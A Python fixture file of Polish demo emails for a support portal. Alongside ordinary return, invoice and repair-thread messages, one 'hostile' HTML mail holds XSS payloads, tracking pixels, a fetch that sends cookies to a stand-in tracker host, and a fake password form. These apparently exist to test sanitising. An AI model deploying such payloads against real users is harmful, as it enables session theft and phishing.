"""Long mails of the demo: a newsletter-like one, a hostile one, and a thread of forty messages."""

from thulium_portal.practice.script import Message, at, mail, note, reply

OFFICE_MAIL = """\
<html xmlns:o="urn:schemas-microsoft-com:office:office"><head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<style><!-- p.MsoNormal {margin:0cm; font-size:11pt; font-family:"Calibri",sans-serif;} --></style>
</head><body lang="PL" link="#0563C1"><div class="WordSection1">
<p class="MsoNormal">Dzień dobry,</p>
<p class="MsoNormal">chciałabym zwrócić buty z zamówienia <b>ZK/2026/097</b>. Niestety są
o&nbsp;rozmiar za małe. Dane do zwrotu:<o:p></o:p></p>
<table border="1" cellspacing="0" cellpadding="4">
<tr><th>Pozycja</th><th>Rozmiar</th><th>Cena</th></tr>
<tr><td>Botki skórzane „Nela”</td><td>38</td><td>289,00&nbsp;zł</td></tr>
<tr><td>Impregnat do skóry</td><td>–</td><td>29,90&nbsp;zł</td></tr>
</table>
<ul><li>Impregnat zatrzymuję.</li><li>Numer konta jest w&nbsp;formularzu zwrotu.</li></ul>
<p class="MsoNormal">Proszę o&nbsp;etykietę zwrotną i&nbsp;informację, kiedy wrócą pieniądze.</p>
<p class="MsoNormal"><span style="color:#1F3864">Pozdrawiam serdecznie,<br>
Katarzyna Lewandowska</span></p>
<p class="MsoNormal"><img width="180" src="cid:logo001.png" alt="Logo firmy"></p>
</div></body></html>
"""

HOSTILE_MAIL = """\
<html><head><base href="https://tracker.example.net/">
<meta http-equiv="refresh" content="1;url=https://tracker.example.net/moved">
<link rel="stylesheet" href="https://tracker.example.net/look.css">
<style>@import "https://tracker.example.net/more.css";
body { background: url(https://tracker.example.net/opened.gif) }
.over { position: fixed; inset: 0; z-index: 9999; background: #fff }</style>
<script>fetch("https://tracker.example.net/?c=" + document.cookie)</script></head>
<body onload="alert('otwarto')">
<p>Szanowni Państwo,</p>
<p><b>ostatnie wezwanie</b> w sprawie reklamacji R/77/2026. Brak odpowiedzi w ciągu 24&nbsp;godzin
oznacza uznanie roszczenia. Dokumenty:
<a href="javascript:alert('kliknięto')">pobierz pismo</a>,
<a href="https://tracker.example.net/go?to=https%3A%2F%2Fexample.org">example.org/reklamacje</a>,
<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">kopia</a>.</p>
<img src="https://tracker.example.net/pixel.gif?id=1232" width="1" height="1" alt="">
<img src="x" onerror="alert('obrazek')" alt="Pieczęć">
<picture><source srcset="https://tracker.example.net/large.webp 2x"><img alt="Skan pisma"></picture>
<svg onload="alert('svg')"><a xlink:href="javascript:alert(2)"><text y="20">Podpis</text></a></svg>
<iframe src="https://tracker.example.net/frame"
srcdoc="&lt;script&gt;parent.alert(3)&lt;/script&gt;"></iframe>
<object data="https://tracker.example.net/page.swf"></object>
<form action="https://tracker.example.net/login" method="post">
<label>Sesja wygasła, podaj hasło do panelu: <input type="password" name="p"></label>
<button>Zaloguj</button></form>
<table background="https://tracker.example.net/table.png"><tr><td>Kwota roszczenia: 4&nbsp;999 zł
</td></tr></table>
<math><mtext><table><mglyph><style><!--</style>
<img title="--&gt;&lt;img src=x onerror=alert(4)&gt;">
</table></mtext></math>
<div class="over"><a href="https://tracker.example.net/win">Kliknij gdziekolwiek</a></div>
<p>Z poważaniem<br>Kancelaria „Szybka Sprawa”</p>
</body></html>
"""

QUOTING_MAIL = """\
Dzień dobry,

dziękuję za szybką odpowiedź. Na fakturze nadal jest stary NIP (ostatnie dwie cyfry):
   jest:      525-000-00-01
   ma być:    525-000-00-10

Kwota < 500 zł, więc wystarczy mi nota korygująca? Proszę o potwierdzenie.

Pozdrawiam
Tomasz Kamiński

W dniu wczorajszym Piotr Zieliński napisał:
> Dzień dobry Panie Tomaszu,
> proszę o podanie poprawnego numeru NIP, przygotujemy korektę.
>
> > Wcześniej:
> > na fakturze FV/2026/11/0342 jest błędny NIP. Proszę o poprawienie.
>
> Z poważaniem
> Piotr Zieliński
"""

# Who, days ago, time, words: K is the customer, N a note for the team, others are agents.
_COFFEE = """\
K|24|08:12|Dzień dobry, ekspres ZK/2026/031 po dwóch tygodniach przestał spieniać mleko.
A|24|08:55|Dzień dobry Panie Pawle, przykro nam. Czy wykonał Pan program odkamieniania?
K|24|09:20|Tak, dwa razy. Bez zmian.
A|24|09:41|Proszę o zdjęcie tabliczki i krótki opis, co dzieje się po naciśnięciu przycisku mleka.
K|24|12:03|Zdjęcie w załączniku. Słychać pompę, ale leci tylko para.
N|24|12:30|Wygląda na zawór dyszy, znany problem tej serii.
A|24|12:44|Dziękuję za zdjęcie. Naprawa ma numer R/31/2026. Kiedy kurier może odebrać ekspres?
K|24|15:18|Najlepiej w czwartek po 16.
A|24|15:40|Zamówiłam kuriera na czwartek między 16 a 19. Proszę zabezpieczyć zbiornik na wodę.
K|21|18:50|Kurier nie przyjechał. Czekałem do 20.
P|20|08:05|Dzień dobry, bardzo przepraszamy. Kurier zgłosił błędny adres. Czy lokal to nadal 14?
K|20|08:31|Nie 14, tylko 41. Tak podałem w zamówieniu.
P|20|08:47|Ma Pan rację, cyfry się zamieniły. Adres poprawiony. Odbiór jutro po 16, czy pasuje?
K|20|09:02|Pasuje.
N|20|09:10|Adres poprawiony także w karcie klienta.
K|19|17:22|Odebrany, dziękuję.
A|17|10:15|Ekspres dotarł do serwisu. Diagnoza potrwa do trzech dni roboczych.
K|14|11:00|Minęły trzy dni robocze. Czy coś już wiadomo?
A|14|11:26|Serwis potwierdził uszkodzony zawór. Część zamówiona, będzie w poniedziałek.
K|14|11:40|Czy w tym czasie mogę dostać ekspres zastępczy?
P|14|12:12|Nie mamy takiego modelu zastępczego, ale możemy wypożyczyć prostszy, kolbowy.
K|14|12:30|Wolę poczekać.
A|14|12:38|Rozumiem. W ramach przeprosin dokładamy kilogram kawy. Ziarno jasne czy ciemne?
K|14|12:51|Ciemne, dziękuję. To miłe.
N|12|09:30|Kawa odłożona na regale 4, dołożyć do paczki zwrotnej.
A|10|14:05|Część dotarła, naprawa jutro rano.
K|9|16:45|I jak?
A|9|16:58|Naprawa wykonana, ekspres przechodzi próbę szczelności.
A|8|10:10|Próba pomyślna. Wysyłamy dzisiaj, numer listu 6400 0000 1180.
K|7|13:35|Dotarł. Mleko działa, ale na wyświetlaczu jest język niemiecki.
P|7|13:52|Proszę przytrzymać przycisk „menu” przez 5 sekund i wybrać „Sprache”, potem „Polski”.
K|7|14:10|Udało się, dziękuję.
A|7|14:14|Cieszymy się. Czy możemy zamknąć zgłoszenie?
K|7|14:20|Jeszcze chwilę. Brakuje pojemnika na fusy.
N|7|14:35|Serwis: pojemnik został na stole pomiarowym.
A|7|14:49|Przepraszamy, pojemnik został w serwisie. Wyślemy go jutro do paczkomatu. Do którego?
K|7|15:05|WAW22A.
A|6|09:00|Nadany do WAW22A, kod odbioru przyjdzie SMS-em.
K|2|18:15|Kod nie przyszedł, a paczkomat wysłał przypomnienie, że paczka czeka ostatni dzień.
K|1|07:50|Proszę o szybką odpowiedź, bo pojemnik wróci do Państwa.
"""

_AGENTS = {"A": "anna.nowak", "P": "piotr.zielinski"}


def coffee_thread() -> tuple[Message, ...]:
    """Return the forty messages about one coffee machine."""
    return tuple(_coffee_message(*line.split("|")) for line in _COFFEE.splitlines())


def _coffee_message(who: str, days: str, clock: str, words: str) -> Message:
    moment = at(int(days), clock)
    if who == "K":
        files = ("5f0c1a2b3d4e5f60718301",) if "w załączniku" in words else ()
        return mail(moment, f"<p>{words}</p>", *files)
    if who == "N":
        return note(moment, "piotr.zielinski", words)
    return reply(moment, _AGENTS[who], f"<p>{words}</p>")
